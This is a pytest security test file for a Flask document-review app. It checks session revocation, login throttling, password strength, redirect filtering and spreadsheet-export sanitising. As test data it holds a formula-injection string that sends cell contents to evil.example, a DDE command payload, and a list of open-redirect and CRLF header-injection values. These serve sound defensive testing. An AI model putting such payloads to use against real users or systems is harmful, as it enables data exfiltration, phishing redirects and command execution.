"""Security of the review app (issue 12, deliverables 1-4), with the real parts: a real
SQLite file, the real Flask app through its test client, real argon2 and zxcvbn.

Each test names the failure it guards against; each failed on the code before the fix.
"""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import stat

import pytest
from openpyxl import load_workbook

from analyzer import accounts, logins
from analyzer.db.connection import open_db
from analyzer.review import export as evidence
from analyzer.review.decisions import record_decision
from analyzer.scorecard.render import render_report
from analyzer.web.app import make_app
from tests.conftest import invoke
from tests.review_support import PASSWORD, copy_db, csrf_token, template_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the source")'
NEW_PASSWORD = "quiet violet harbour lamp"


@pytest.fixture(scope="module")
def template(tmp_path_factory, embedder):
    """The analysed database plus four users."""
    db_path = copy_db(template_db(tmp_path_factory, embedder), tmp_path_factory.mktemp("sec"))
    db = open_db(db_path)
    for name, role in (("ada", "admin"), ("ann", "analyst"), ("rev", "reviewer")):
        accounts.add_user(db, name, PASSWORD, role)
    accounts.add_user(db, "rob", PASSWORD, "reviewer")
    db.close()
    return db_path


@pytest.fixture
def db_path(template, tmp_path):
    return copy_db(template, tmp_path)


@pytest.fixture
def apps(db_path, embedder):
    """make(**options): an app over this test's database (closed at the end)."""
    made = []

    def make(**options):
        app = make_app(db_path, embedder=embedder, **options)
        made.append(app)
        return app

    yield make
    for app in made:
        app.extensions["worker"].stop()
        app.extensions["renderer"].close()


def client_from(app, address: str = "10.0.0.1", **kwargs):
    client = app.test_client(**kwargs)
    client.environ_base["REMOTE_ADDR"] = address
    return client


def try_login(client, name: str, password: str = PASSWORD, next_: str | None = None):
    token = csrf_token(client.get("/login").get_data(as_text=True))
    url = "/login" if next_ is None else "/login?next=" + next_
    return client.post(url, data={"username": name, "password": password, "csrf_token": token})


def login(app, name: str, address: str = "10.0.0.1", **kwargs):
    client = client_from(app, address, **kwargs)
    response = try_login(client, name)
    assert response.status_code == 302, response.get_data(as_text=True)
    client.token = csrf_token(client.get("/").get_data(as_text=True))
    return client


def cookie_copy(app, client, address: str = "10.0.0.99"):
    """A second browser holding a copy of this client's session cookie."""
    thief = client_from(app, address)
    cookie = client.get_cookie(app.config["SESSION_COOKIE_NAME"])
    thief.set_cookie(cookie.key, cookie.value)
    return thief


def mode(path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


# -- 1. Sessions: private files, the key outside the database, revocation, Secure cookies --


def test_database_uploads_and_key_are_private(tmp_path, embedder):
    """Was: database 0644, uploads/ 0755, the signing key in plain text in `settings`."""
    app = make_app(tmp_path / "new.db", embedder=embedder)
    try:
        writer = open_db(tmp_path / "new.db")  # WAL: the -wal and -shm files exist now
        accounts.set_setting(writer, "probe", "1")
        files = sorted(tmp_path.glob("new.db*"))
        assert {f.name for f in files} >= {"new.db", "new.db-wal", "new.db-shm", "new.db.key"}
        assert {f.name: mode(f) for f in files} == {f.name: 0o600 for f in files}
        writer.close()
        assert mode(tmp_path / "uploads") == 0o700
        key_file = tmp_path / "new.db.key"
        assert mode(key_file) == 0o600 and key_file.read_text() == app.secret_key
        db = open_db(tmp_path / "new.db")
        assert accounts.get_setting(db, "secret_key") is None
        db.close()
        assert app.secret_key.encode() not in (tmp_path / "new.db").read_bytes()
    finally:
        app.extensions["worker"].stop()
        app.extensions["renderer"].close()
    # A database made before (0644, key in settings) is tightened and its key dropped.
    old = tmp_path / "old" / "analyzer.db"
    old.parent.mkdir()
    (old.parent / "uploads").mkdir(mode=0o755)
    conn = sqlite3.connect(old)
    conn.execute("create table t (x)")
    conn.close()
    old.chmod(0o644)
    (old.parent / "uploads").chmod(0o755)
    app = make_app(old, embedder=embedder)
    try:
        assert mode(old) == 0o600 and mode(old.parent / "uploads") == 0o700
    finally:
        app.extensions["worker"].stop()
        app.extensions["renderer"].close()


def test_a_cookie_made_from_the_database_file_does_not_log_in(apps, db_path):
    """Was: the key in `settings` signed a cookie {"uid": 1} that logged in as the admin."""
    app = apps()
    login(app, "ada")  # a live session exists
    db = open_db(db_path)
    stored_id = next(iter(db["sessions"].rows))["id"]
    db.close()
    signer = app.session_interface.get_signing_serializer(app)
    for forged in ({"uid": 1}, {"sid": stored_id}):  # even with the real key
        client = client_from(app)
        client.set_cookie(app.config["SESSION_COOKIE_NAME"], signer.dumps(forged))
        assert client.get("/").status_code == 302, forged


def test_logout_ends_the_session_for_every_copy_of_the_cookie(apps):
    """Was: a cookie copied before logout kept working (sessions could not be ended)."""
    app = apps()
    client = login(app, "rev")
    thief = cookie_copy(app, client)
    assert thief.get("/").status_code == 200
    client.post("/logout", data={"csrf_token": client.token})
    assert client.get("/").status_code == 302
    response = thief.get("/")
    assert response.status_code == 302 and "/login" in response.headers["Location"]
    assert thief.get("/api/next").status_code == 401


@pytest.mark.parametrize("change", ["password", "disable", "role"])
def test_a_password_change_disabling_or_a_role_change_ends_sessions(apps, db_path, change):
    """Was: a cookie copied before a password change (or a disable, a role change) lived on."""
    app = apps()
    victim = login(app, "rev")
    thief = cookie_copy(app, victim)
    other = login(app, "rob")
    assert thief.get("/progress").status_code == 200
    db = open_db(db_path)  # as the CLI does: `analyzer users set rev ...`
    if change == "password":
        accounts.set_password(db, "rev", NEW_PASSWORD)
    elif change == "disable":
        accounts.set_disabled(db, "rev", True)
    else:
        accounts.set_role(db, "rev", "analyst")
    db.close()
    for client in (victim, thief):
        assert client.get("/progress").status_code == 302, change
    assert other.get("/progress").status_code == 200  # other users keep theirs


def test_admin_page_ends_sessions_but_keeps_the_admins_own(apps):
    app = apps()
    admin = login(app, "ada")
    rev = login(app, "rev")
    ada_elsewhere = login(app, "ada", address="10.0.0.7")
    form = {"csrf_token": admin.token, "username": "ada", "op": "password"}
    admin.post("/admin/users", data={**form, "password": NEW_PASSWORD})
    assert admin.get("/admin/users").status_code == 200  # this browser stays in
    assert ada_elsewhere.get("/").status_code == 302  # the others are logged out
    page = admin.get("/admin/users").get_data(as_text=True)
    form["csrf_token"] = csrf_token(page)  # a new session carries a new token
    admin.post("/admin/users", data={**form, "username": "rev", "op": "signout"})
    assert "Log out everywhere" in page and rev.get("/").status_code == 302


def test_secure_cookies_and_hsts_behind_https(apps):
    """Was: no way to mark the cookie Secure for a deployment behind HTTPS."""
    plain = apps()
    response = try_login(client_from(plain), "ada")
    assert "Secure" not in response.headers["Set-Cookie"]
    assert "Strict-Transport-Security" not in response.headers
    app = apps(secure_cookies=True, proxy_hops=1)
    # Behind a proxy that ends TLS: X-Forwarded-Proto says https, X-Forwarded-For the client.
    client = app.test_client()
    client.environ_base.update(
        {
            "REMOTE_ADDR": "127.0.0.1",
            "HTTP_X_FORWARDED_PROTO": "https",
            "HTTP_X_FORWARDED_FOR": "203.0.113.5",
            "HTTP_REFERER": "https://localhost/login",  # checked for HTTPS form posts
        }
    )
    response = try_login(client, "ada")
    assert response.status_code == 302
    cookie = response.headers["Set-Cookie"]
    assert cookie.startswith("__Host-session=") and "Secure" in cookie and "HttpOnly" in cookie
    assert response.headers["Strict-Transport-Security"].startswith("max-age=")
    db = open_db(app.config["DB_PATH"])
    assert {r["address"] for r in db["sessions"].rows} >= {"203.0.113.5"}
    db.close()
    help_text = invoke("serve", "--help").stdout
    assert "--secure-cookies" in help_text and "--proxy-hops" in help_text


# -- 2. Login: throttling that cannot lock the rightful user out, weak passwords refused --


def test_guessing_cannot_lock_the_rightful_user_out(apps):
    """Was: five wrong passwords from anywhere locked the admin out for ten minutes."""
    app = apps()
    home = login(app, "ada", address="10.0.0.1")
    home.post("/logout", data={"csrf_token": home.token})
    attacker = client_from(app, "198.51.100.66")
    codes = [try_login(attacker, "ada", f"guess {i}").status_code for i in range(12)]
    assert codes[:5] == [401] * 5 and set(codes[5:]) == {429}
    assert try_login(attacker, "ada").status_code == 429  # the right password too, from there
    stranger = try_login(client_from(app, "10.0.0.50"), "ada")  # a new address waits
    assert stranger.status_code == 429 and "too many failed logins" in stranger.get_data(True)
    assert int(stranger.headers["Retry-After"]) > 0
    # From an address ada logged in from before, the right password still opens.
    assert try_login(client_from(app, "10.0.0.1"), "ada").status_code == 302
    assert try_login(attacker, "ada", "guess 13").status_code == 401  # the name's wait ended


def test_the_throttle_survives_a_restart(apps):
    """Was: the failure counter lived in memory; a restart cleared it."""
    first = apps()
    attacker = client_from(first, "198.51.100.7")
    for i in range(5):
        assert try_login(attacker, "rob", f"guess {i}").status_code == 401
    restarted = apps()
    assert try_login(client_from(restarted, "198.51.100.7"), "rob").status_code == 429


def test_one_address_cannot_spray_guesses_and_throttled_tries_cost_no_argon2(apps, monkeypatch):
    """Was: no limit per address (guessing across names went on), and every failed login
    cost a full argon2 check."""
    calls = []
    real = accounts._hasher

    class CountingHasher:
        """The real argon2 hasher, counting its checks."""

        def verify(self, *args):
            calls.append(1)
            return real.verify(*args)

        def __getattr__(self, name):
            return getattr(real, name)

    monkeypatch.setattr(accounts, "_hasher", CountingHasher())
    app = apps()
    sprayer = client_from(app, "198.51.100.9")
    codes = [try_login(sprayer, f"user{i}", "guess").status_code for i in range(30)]
    free = logins.POLICY.free_per_address
    assert codes[:free] == [401] * free and set(codes[free:]) == {429}
    assert len(calls) == free  # the ten throttled attempts ran no argon2
    assert try_login(sprayer, "ann").status_code == 429  # even a real account from there
    assert try_login(client_from(app, "10.0.0.3"), "ann").status_code == 302


def test_waits_grow_exponentially_to_a_cap_and_are_forgotten(db_path):
    db = open_db(db_path)
    policy = logins.Policy(free_per_name=3, free_per_address=100, first_wait=10, max_wait_name=60)
    t = 1_000_000.0
    waits = []
    for i in range(7):
        logins.record_failure(db, "rev", "10.0.0.8", policy, moment=t + i)
        waits.append(round(logins.wait_seconds(db, "rev", "10.0.0.8", policy, moment=t + i)))
    assert waits == [0, 0, 10, 20, 40, 60, 60]
    later = t + policy.forget_after + 10
    assert logins.wait_seconds(db, "rev", "10.0.0.8", policy, moment=later) == 0
    logins.record_failure(db, "rev", "10.0.0.8", policy, moment=later)
    assert logins.wait_seconds(db, "rev", "10.0.0.8", policy, moment=later) == 0  # restarted


@pytest.mark.parametrize("weak", ["password", "12345678", "Password123!", "qwertyuiop1"])
def test_common_passwords_are_refused(db_path, weak):
    """Was: `password` and `12345678` were accepted, for admins too."""
    db = open_db(db_path)
    with pytest.raises(accounts.AccountError, match="too common or too easy to guess"):
        accounts.add_user(db, "zed", weak, "reviewer")
    with pytest.raises(accounts.AccountError, match="too common"):
        accounts.set_password(db, "rev", weak)
    with pytest.raises(accounts.AccountError):
        accounts.add_user(db, "zed", weak, "admin")
    assert accounts.get_user(db, "zed") is None


def test_admins_need_longer_passwords(db_path):
    db = open_db(db_path)
    with pytest.raises(accounts.AccountError, match="admin's password must have at least 10"):
        accounts.add_user(db, "zed", "k7#pQ2!xZ", "admin")
    accounts.add_user(db, "zoe", "k7#pQ2!xZ", "reviewer")  # 9 random characters: fine
    accounts.add_user(db, "zed", "k7#pQ2!xZw", "admin")


def test_weak_passwords_are_refused_on_the_users_page_and_the_cli(apps, db_path):
    app = apps()
    admin = login(app, "ada")
    form = {"csrf_token": admin.token, "op": "add", "username": "zed", "role": "reviewer"}
    page = admin.post("/admin/users", data={**form, "password": "password"}, follow_redirects=True)
    assert "too common or too easy to guess" in page.get_data(as_text=True)
    proc = invoke("users", "add", "zed", "--password-stdin", db=db_path, input="12345678\n")
    assert proc.returncode != 0 and "too common" in proc.stderr
    db = open_db(db_path)
    assert accounts.get_user(db, "zed") is None
    db.close()


# -- 3. Redirects only to the app's own paths --

HOSTILE_NEXT = [
    "/%09/evil.example",  # the case: a tab the browser drops, giving //evil.example
    "/%0a/evil.example",  # a newline: was a 500
    "/%0d%0aSet-Cookie:%20x=1",
    "//evil.example",
    "///evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "https://evil.example/",
    "javascript:alert(1)",
    "evil.example",
    "/%00",
    "/%E2%80%A8/evil.example",  # a Unicode line separator
    "/no-such-page",
    "%2F%2Fevil.example",
]


@pytest.mark.parametrize("target", HOSTILE_NEXT)
def test_login_redirects_only_to_the_apps_own_pages(apps, target):
    """Was: next=/%09/evil.example answered Location: //evil.example; a newline gave 500."""
    response = try_login(client_from(apps()), "ada", next_=target)
    assert response.status_code == 302
    assert response.headers["Location"] == "/"


def test_a_next_page_of_the_app_is_kept(apps):
    app = apps()
    client = client_from(app)
    bounced = client.get("/review?doc=1&order=informative")
    assert bounced.status_code == 302
    login_url = bounced.headers["Location"]
    token = csrf_token(client.get(login_url).get_data(as_text=True))
    response = client.post(
        login_url, data={"username": "ada", "password": PASSWORD, "csrf_token": token}
    )
    assert response.headers["Location"] == "/review?doc=1&order=informative"


# -- 3. Ids beyond SQLite's range (the full route fuzz is tests/test_web_fuzz.py) --


@pytest.mark.parametrize(
    "url",
    [
        f"/api/cards/{2**63}",
        f"/api/cards/{2**64 + 5}",
        f"/documents/{2**63}/pages/1.png",
        f"/documents/1/pages/{2**70}.png",
        f"/review?doc={2**63}",
        f"/export?doc={2**63}",
        f"/search?q=steel&doc={2**64}",
        f"/progress?doc={2**63}",
        f"/review?candidate={2**63}",
        "/documents/1/pages/1.png?scale=inf",
        "/documents/1/pages/1.png?scale=nan",
    ],
)
def test_ids_beyond_2_to_the_63_give_4xx_not_500(apps, url):
    """Was: ids beyond 2^63 gave 500 on six routes."""
    client = login(apps(), "ada")
    assert client.get(url).status_code < 500, url
    for path in (f"/api/cards/{2**63}/decide", f"/api/decisions/{2**63}/undo"):
        response = client.post(
            path, json={"action": "accept"}, headers={"X-CSRFToken": client.token}
        )
        assert response.status_code == 404


# -- 4. Exports: no live formulas in CSV or XLSX, exact text in JSON --


def strings_in(value) -> set[str]:
    """Every string anywhere in a JSON value."""
    if isinstance(value, str):
        return {value}
    if isinstance(value, dict):
        value = list(value.values())
    if not isinstance(value, list):
        return set()
    return set().union(*(strings_in(v) for v in value))


def _confirm_formula_quote(db_path) -> int:
    """A confirmed quote that starts with a formula, as a hostile report's text gives."""
    db = open_db(db_path)
    cand = next(iter(db["candidates"].rows_where(order_by="id")))
    db["candidates"].update(cand["id"], {"quote": FORMULA})
    record_decision(db, cand["id"], "accept", "ada", level=2)
    db.close()
    return cand["document_id"]


def test_evidence_csv_neutralises_formulas_and_json_stays_exact(apps, db_path):
    """Was: a quote beginning with = landed as a formula in the CSV download."""
    doc_id = _confirm_formula_quote(db_path)
    client = login(apps(), "ada")
    body = client.get(f"/export?doc={doc_id}&format=csv").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [r["quote"] for r in rows] == ["'" + FORMULA]
    cells = [v for r in rows for v in r.values()]
    assert not any(evidence.is_formula_like(v) for v in cells)
    exact = client.get(f"/export?doc={doc_id}&format=json").json
    assert [r["quote"] for r in exact] == [FORMULA]
    for text in ("+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\uff1d1+1"):
        assert evidence.spreadsheet_text(text) == "'" + text
    assert evidence.spreadsheet_text("Scope 3 emissions") == "Scope 3 emissions"
    assert evidence.spreadsheet_text(-3) == -3  # numbers stay numbers


def test_scorecard_csv_and_xlsx_hold_no_formulas_and_json_stays_exact(db_path):
    """Was: 35 formula cells in one XLSX report; the CSV kept them too."""
    _confirm_formula_quote(db_path)
    db = open_db(db_path)
    workbook_bytes, _, _ = render_report(db, "2024", None, "xlsx")
    workbook = load_workbook(io.BytesIO(workbook_bytes))
    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    quoted = [c for c in cells if c.value == FORMULA]
    assert quoted and all(c.quotePrefix and c.data_type == "s" for c in quoted)
    text = render_report(db, "2024", None, "csv")[0].decode("utf-8")
    values = [v for row in csv.reader(io.StringIO(text)) for v in row]
    assert "'" + FORMULA in values and FORMULA not in values
    payload = json.loads(render_report(db, "2024", None, "json")[0])
    assert FORMULA in strings_in(payload) and "'" + FORMULA not in strings_in(payload)
    db.close()
